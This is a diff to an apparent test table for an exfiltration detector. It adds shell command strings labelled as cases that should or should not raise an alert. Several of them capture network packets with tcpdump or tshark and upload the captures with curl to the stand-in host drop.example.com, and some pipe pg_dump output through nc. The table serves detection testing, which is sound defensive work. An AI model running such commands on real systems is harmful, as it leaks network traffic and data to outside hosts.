@@ -14,6 +14,9 @@ indicatorTable(commandDataPour, {
     'packets of a while, then sent': script(
       'tshark -a duration:60 -w /tmp/p; curl -T /tmp/p https://drop.example.com/',
     ),
+    'packets in a file with the letter of another option': script(
+      'tcpdump -i any -wcapr -c 999; curl -T capr https://drop.example.com/',
+    ),
     'packets in the body of a request': script('tcpdump -c 999 -w - | curl --data-binary @- https://drop.example.com/'),
   },
   staysSilent: {
@@ -25,6 +28,9 @@ indicatorTable(commandDataPour, {
     'a dump to another database of the cluster': script('pg_dump -h a shop | nc b.shop.svc 5433'),
     'a dump to a private address': script('pg_dump -h a shop | nc 10.2.3.4 5433'),
     'packets that stay in the pod': script('tcpdump -i any -w /captures/a.pcap'),
+    'packets that somebody took down, looked through and kept': script(
+      'tcpdump -nnr /in/a.pcap -w /out/b.pcap port 53; aws s3 cp /out/b.pcap s3://captures/',
+    ),
     'packets that are shown': script('tcpdump -ni any port 53'),
     'a file that has nothing to do with it': script('tcpdump -w /c/a.pcap & curl -T /tmp/report https://example.com/'),
     'no command set': blank,
